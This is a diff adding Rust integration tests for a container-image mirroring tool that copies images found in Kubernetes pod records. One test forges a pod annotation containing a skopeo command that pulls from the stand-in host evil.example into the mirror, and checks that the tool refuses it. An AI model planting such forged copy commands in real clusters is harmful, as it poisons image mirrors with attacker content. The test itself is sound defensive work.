@@ -1,0 +1,212 @@
+//! `fill-mirror list` and `fill-mirror once` as a CronJob or a person runs them, on Pods from
+//! `kubectl get pods -o json` output and real registries on loopback (Debian's
+//! `docker-registry`), copying with skopeo.
+
+mod rig;
+
+use std::path::PathBuf;
+
+use rig::images::{Image, Index};
+use rig::registry::TestRegistry;
+use rig::{policy, recorded_pod, run, settings, text, write_json};
+use serde_json::{Value, json};
+
+struct Files {
+    dir: tempfile::TempDir,
+}
+
+impl Files {
+    fn new() -> Files {
+        Files {
+            dir: tempfile::tempdir().expect("a temporary folder"),
+        }
+    }
+
+    fn write(&self, name: &str, value: &Value) -> String {
+        let path: PathBuf = self.dir.path().join(name);
+        write_json(&path, value);
+        path.display().to_string()
+    }
+}
+
+/// The pods file and the settings file for Pods of `images` recorded as lacking them.
+fn inputs(files: &Files, source: &str, mirror: &str, pods: &[(&str, &str)]) -> (String, String) {
+    let settings = settings(source, mirror);
+    let policy = policy(&settings);
+    let items: Vec<Value> = pods
+        .iter()
+        .map(|(name, image)| recorded_pod(name, &[image], &[image], &policy))
+        .collect();
+    (
+        files.write(
+            "pods.json",
+            &json!({"apiVersion": "v1", "kind": "List", "items": items}),
+        ),
+        files.write("settings.json", &settings),
+    )
+}
+
+#[test]
+fn list_prints_each_copy_once_and_refuses_a_record_the_policy_did_not_write() {
+    let files = Files::new();
+    let settings = settings("src.example", "m.example");
+    let policy = policy(&settings);
+    let own = recorded_pod(
+        "own",
+        &["src.example/app/web:1"],
+        &["src.example/app/web:1"],
+        &policy,
+    );
+    let twin = recorded_pod(
+        "twin",
+        &["src.example/app/web:1"],
+        &["src.example/app/web:1"],
+        &policy,
+    );
+    let mut forged = own.clone();
+    forged["metadata"]["name"] = json!("forged");
+    forged["spec"]["containers"][0]["image"] = json!("src.example/app/db:1");
+    let record = json!({"c0": {"source": "src.example/app/db:1",
+        "copy": "skopeo copy --all --preserve-digests docker://evil.example/x:1 docker://m.example/hub/app/db:1"}});
+    forged["metadata"]["annotations"] =
+        json!({"image-swapper.kubewarden.io/unmirrored-images": record.to_string()});
+    let pods = files.write("pods.json", &json!({"items": [own, twin, forged]}));
+    let settings = files.write("settings.json", &settings);
+
+    let output = run(&["list", "--pods", &pods, "--settings", &settings]);
+
+    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+    assert_eq!(
+        text(&output.stdout),
+        "src.example/app/web:1 m.example/hub/app/web:1\n"
+    );
+    let stderr = text(&output.stderr);
+    assert!(
+        stderr.contains("refused default/forged container c0: its record is not the policy's own"),
+        "{stderr}"
+    );
+    assert!(stderr.contains("listed 1 copies, 1 refused"), "{stderr}");
+}
+
+#[test]
+fn once_copies_a_multi_platform_image_once_with_every_digest() {
+    let source = TestRegistry::start("fill-once-src").expect("source registry");
+    let mirror = TestRegistry::start("fill-once-mirror").expect("mirror registry");
+    let index = Index::new(vec![
+        Image::new("web", "linux/amd64"),
+        Image::new("web", "linux/arm64"),
+    ]);
+    let digest = index.push(&source, "app/web", "1");
+    let image = format!("{}/app/web:1", source.host);
+    let files = Files::new();
+    let (pods, settings) = inputs(
+        &files,
+        &source.host,
+        &mirror.host,
+        &[("a", &image), ("b", &image), ("c", &image)],
+    );
+
+    let output = run(&[
+        "once",
+        "--insecure",
+        "--pods",
+        &pods,
+        "--settings",
+        &settings,
+    ]);
+
+    let stdout = text(&output.stdout);
+    assert_eq!(
+        output.status.code(),
+        Some(0),
+        "{stdout}{}",
+        text(&output.stderr)
+    );
+    assert!(
+        stdout.contains("fill-mirror: 1 copied, 0 failed, 0 skipped, 0 gone, 0 refused"),
+        "{stdout}"
+    );
+    assert_eq!(mirror.digest_of("hub/app/web", "1"), Some(digest));
+    for platform in &index.images {
+        assert_eq!(
+            mirror.digest_of("hub/app/web", &platform.digest()),
+            Some(platform.digest()),
+            "{} {}",
+            platform.os,
+            platform.architecture
+        );
+    }
+}
+
+/// A destination that exists is never copied over: the tag keeps the mirror's content.
+#[test]
+fn once_leaves_an_existing_destination_as_it_is() {
+    let source = TestRegistry::start("fill-keep-src").expect("source registry");
+    let mirror = TestRegistry::start("fill-keep-mirror").expect("mirror registry");
+    Image::new("new", "linux/amd64").push(&source, "app/web", Some("1"));
+    let kept = Image::new("old", "linux/amd64").push(&mirror, "hub/app/web", Some("1"));
+    let image = format!("{}/app/web:1", source.host);
+    let files = Files::new();
+    let (pods, settings) = inputs(&files, &source.host, &mirror.host, &[("a", &image)]);
+
+    let output = run(&[
+        "once",
+        "--insecure",
+        "--pods",
+        &pods,
+        "--settings",
+        &settings,
+    ]);
+
+    let stdout = text(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{stdout}");
+    assert!(stdout.contains("0 copied, 0 failed, 1 skipped"), "{stdout}");
+    assert_eq!(mirror.digest_of("hub/app/web", "1"), Some(kept));
+}
+
+/// Exit statuses: 0 when the source is gone (nothing any run can copy), 1 when a copy failed
+/// (the mirror down: the next run tries again), 2 when the run cannot run (settings refused).
+#[test]
+fn once_exits_0_for_a_gone_source_1_for_a_failed_copy_2_for_bad_settings() {
+    let source = TestRegistry::start("fill-status-src").expect("source registry");
+    let mut mirror = TestRegistry::start("fill-status-mirror").expect("mirror registry");
+    Image::new("web", "linux/amd64").push(&source, "app/web", Some("1"));
+    let files = Files::new();
+    let gone = format!("{}/app/none:1", source.host);
+    let (pods, settings) = inputs(&files, &source.host, &mirror.host, &[("a", &gone)]);
+    let output = run(&[
+        "once",
+        "--insecure",
+        "--pods",
+        &pods,
+        "--settings",
+        &settings,
+    ]);
+    let stdout = text(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{stdout}");
+    assert!(stdout.contains("0 failed, 0 skipped, 1 gone"), "{stdout}");
+
+    let image = format!("{}/app/web:1", source.host);
+    let (pods, settings) = inputs(&files, &source.host, &mirror.host, &[("a", &image)]);
+    mirror.stop();
+    let output = run(&[
+        "once",
+        "--insecure",
+        "--pods",
+        &pods,
+        "--settings",
+        &settings,
+    ]);
+    let stdout = text(&output.stdout);
+    assert_eq!(output.status.code(), Some(1), "{stdout}");
+    assert!(stdout.contains("0 copied, 1 failed"), "{stdout}");
+
+    let bad = files.write("bad.json", &json!({"mirrors": [{"source": "docker.io"}]}));
+    let output = run(&["once", "--pods", &pods, "--settings", &bad]);
+    assert_eq!(output.status.code(), Some(2), "{}", text(&output.stderr));
+    assert!(
+        text(&output.stderr).contains("settings"),
+        "{}",
+        text(&output.stderr)
+    );
+}
